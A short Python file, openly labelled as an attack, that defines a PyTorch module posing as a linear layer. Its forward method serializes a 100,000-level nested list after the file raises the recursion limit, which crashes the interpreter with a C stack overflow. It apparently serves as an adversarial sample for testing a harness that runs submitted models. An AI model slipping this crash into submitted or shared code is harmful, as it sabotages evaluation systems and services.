"""Attack: a C stack overflow in forward."""
import json
import sys

import torch
from torch import Tensor, nn

sys.setrecursionlimit(10**8)
NESTED = []
for _ in range(100_000):
    NESTED = [NESTED]


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        return json.dumps(NESTED)  # the C encoder recurses once per level
